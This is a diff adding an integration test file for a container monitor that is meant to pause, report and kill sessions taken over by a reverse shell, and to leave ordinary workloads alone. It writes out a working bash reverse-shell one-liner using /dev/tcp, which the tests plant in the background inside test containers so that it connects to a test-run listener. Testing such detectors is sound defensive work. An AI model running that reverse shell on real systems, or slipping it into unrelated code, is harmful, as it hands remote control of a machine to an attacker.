@@ -1,0 +1,203 @@
+// Goal: a watched session that is taken over stands still within seconds, its owner is told why and lets it go or loses
+// it; and a session that only works is never stopped.
+// Method: real containers under a coid of their own; the attacker is a server of the test on the bridge.
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import { connect, createServer, type Server, type Socket } from 'node:net';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { verified } from '../../src/monitor/audit.ts';
+import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
+import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
+
+const limit = { timeout: 180_000 };
+
+function watched(settings: Partial<MonitorSettings> = {}) {
+  return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...settings }) };
+}
+
+/** A server that types a command into every shell that connects to it. */
+async function attacker(): Promise<AsyncDisposable & { port: number; connected: Promise<Socket> }> {
+  let taken: (socket: Socket) => void = () => undefined;
+  const connected = new Promise<Socket>((resolve) => {
+    taken = resolve;
+  });
+  const sockets = new Set<Socket>();
+  const server: Server = createServer((socket) => {
+    sockets.add(socket);
+    socket.on('error', () => sockets.delete(socket));
+    socket.write('id\n');
+    taken(socket);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
+  const address = server.address();
+  const port = typeof address === 'object' && address ? address.port : 0;
+  return {
+    port,
+    connected,
+    [Symbol.asyncDispose]: async () => {
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/** Starts it in the background, away from the exec that starts it. */
+function plant({ sh }: CoidBed, container: string, command: string) {
+  return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`);
+}
+
+async function auditLines(bed: CoidBed, container: string): Promise<string[]> {
+  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
+  return [...lines];
+}
+
+const shell = (gateway: string, port: number) =>
+  `bash -c "bash -i >& /dev/tcp/${gateway}/${port} 0>&1"`;
+
+test(
+  'a reverse shell is paused within three seconds, explained, and goes on when it is let go',
+  limit,
+  async () => {
+    await using bed = await coidBed();
+    await using remote = await attacker();
+    const { container, nic } = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+    await untilWatched(bed, container);
+    await plant(bed, container, shell(nic.gateway, remote.port));
+    const socket = await remote.connected;
+    const started = performance.now();
+    await bed.lifecycle.until('instance-paused', container);
+    const tookMs = performance.now() - started;
+    assert.ok(tookMs < 3000, `paused after ${Math.round(tookMs)} ms`);
+    const found = await bed.incus.instance(container);
+    assert.equal(found?.instance.status, 'Frozen');
+    await bed.lifecycle.until('instance-updated', container);
+    const lines = await auditLines(bed, container);
+    const records = lines.map((line) => JSON.parse(line));
+    const paused = records.filter(({ action }) => action === 'paused');
+    const said = paused.map(({ title, description }) => `${title}: ${description}`).join(' ');
+    assert.match(said, /reverse shell/i);
+    assert.match(said, new RegExp(`${nic.gateway}:${remote.port}`));
+    assert.deepEqual(verified(lines).problems, []);
+    const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()));
+    const operation = await bed.incus.changeState(container, { action: 'unfreeze' });
+    await operation.wait({ timeoutMs: 30_000 });
+    socket.write('id\n');
+    await answered;
+    // It is written down, and the same finding does not pause again.
+    await untilAudited(bed, container, 'unfrozen');
+    assert.equal(await bed.status(container), 'Running');
+  },
+);
+
+test('a container that nobody lets go of is killed, with evidence kept', limit, async () => {
+  await using bed = await coidBed();
+  await using remote = await attacker();
+  const { container, nic } = await bed.session({ config: watched({ killGraceMs: 1000 }) });
+  await untilWatched(bed, container);
+  await plant(bed, container, shell(nic.gateway, remote.port));
+  await bed.lifecycle.until('instance-deleted', container);
+  const records = (await auditLines(bed, container)).map((line) => JSON.parse(line));
+  const kept = records.find(({ action }) => action === 'evidence-kept');
+  const report = JSON.parse(await readFile(join(kept.evidence.directory, 'report.json'), 'utf8'));
+  assert.equal(report.cause.title, 'Reverse shell');
+  assert.ok(records.some(({ action }) => action === 'killed'));
+});
+
+test('a session that is not watched is not touched by the same shell', limit, async () => {
+  await using bed = await coidBed();
+  await using remote = await attacker();
+  const watchedOne = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+  const other = await bed.session();
+  await untilWatched(bed, watchedOne.container);
+  await plant(bed, other.container, shell(other.nic.gateway, remote.port));
+  await remote.connected;
+  // Both are looked at in the same rounds: when the watched one is paused, the other one had its chance.
+  await plant(bed, watchedOne.container, shell(watchedOne.nic.gateway, remote.port));
+  await bed.lifecycle.until('instance-paused', watchedOne.container);
+  assert.equal(await bed.status(other.container), 'Running');
+});
+
+test('a container under load stands still within a moment of the sample', limit, async () => {
+  await using bed = await coidBed();
+  await using remote = await attacker();
+  const { container, nic } = await bed.session({ config: watched({ killGraceMs: 60_000 }) });
+  await untilWatched(bed, container);
+  await plant(bed, container, 'while :; do (true); done');
+  await plant(
+    bed,
+    container,
+    'while :; do dd if=/dev/zero of=/tmp/x bs=1M count=50 2>/dev/null; done',
+  );
+  await plant(bed, container, shell(nic.gateway, remote.port));
+  await remote.connected;
+  const started = performance.now();
+  await bed.lifecycle.until('instance-paused', container);
+  const tookMs = performance.now() - started;
+  // Up to two seconds until the sample, and one and a half from there on.
+  assert.ok(tookMs < 3500, `paused after ${Math.round(tookMs)} ms`);
+});
+
+const ordinaryWork: Readonly<Record<string, string>> = {
+  'many short processes at once':
+    'seq 1 3000 | xargs -P 32 -n 1 sh -c "sort /etc/passwd > /dev/null"',
+  'a pool of workers': 'for i in $(seq 1 100); do sleep 4 & done; wait',
+  'a repository with many objects, packed':
+    'cd /tmp && git init -q r && cd r && for i in $(seq 1 300); do echo $i > f$i; done && git add . && git -c user.name=a -c user.email=a@b commit -qm x && git gc -q --aggressive && git clone -q . /tmp/r2',
+  'a big file, copied and read':
+    'cd /var/tmp && dd if=/dev/zero of=a bs=1M count=700 2>/dev/null && cp a b && cat a b | wc -c && rm a b',
+  'a search for words that sound like secrets':
+    'grep -rn token /usr/share/doc /etc 2>/dev/null | wc -l; env | sort | wc -l; find / -xdev -name "*.conf" 2>/dev/null | wc -l',
+  'a wait for a port':
+    'for i in 1 2 3; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/5432" || true; done',
+};
+
+test('ordinary work is never stopped and raises no alarm', { timeout: 400_000 }, async () => {
+  await using bed = await coidBed();
+  const { container, nic } = await bed.session({ config: watched() });
+  await untilWatched(bed, container);
+  for (const [name, script] of Object.entries(ordinaryWork)) {
+    const done = await bed.sh(container, script);
+    assert.equal(done.status, 0, `${name}: ${done.stderr}`);
+  }
+  await plant(bed, container, 'nc -lk 3000');
+  await untilAudited(bed, container, 'logged');
+  for (let visits = 0; visits < 5; visits += 1) await visit(nic.address, 3000);
+  const records = (await auditLines(bed, container)).map((line) => JSON.parse(line));
+  assert.deepEqual(
+    records.filter(({ level }) => level !== 'info'),
+    [],
+  );
+  assert.equal(await bed.status(container), 'Running');
+});
+
+/** A visitor from the host, as a browser on a development server. */
+function visit(host: string, port: number): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(port, host, () => socket.end('GET / HTTP/1.0\r\n\r\n'));
+    socket.on('error', reject);
+    socket.on('finish', () => {
+      socket.destroy();
+      resolve();
+    });
+  });
+}
+
+/** Resolves when coid wrote down that it watches. */
+function untilWatched(bed: CoidBed, container: string): Promise<void> {
+  return untilAudited(bed, container, 'watch-started');
+}
+
+async function untilAudited(bed: CoidBed, container: string, wanted: string): Promise<void> {
+  let after = 0;
+  for (let asked = 0; asked < 20; asked += 1) {
+    const { lines, head } = await bed.coid.audit(
+      container,
+      { after, waitMs: 5000 },
+      { timeoutMs: 15_000 },
+    );
+    if (lines.some((line) => JSON.parse(line).action === wanted)) return;
+    after = head?.seq ?? after;
+  }
+  throw new Error(`the log of ${container} has no ${wanted}`);
+}
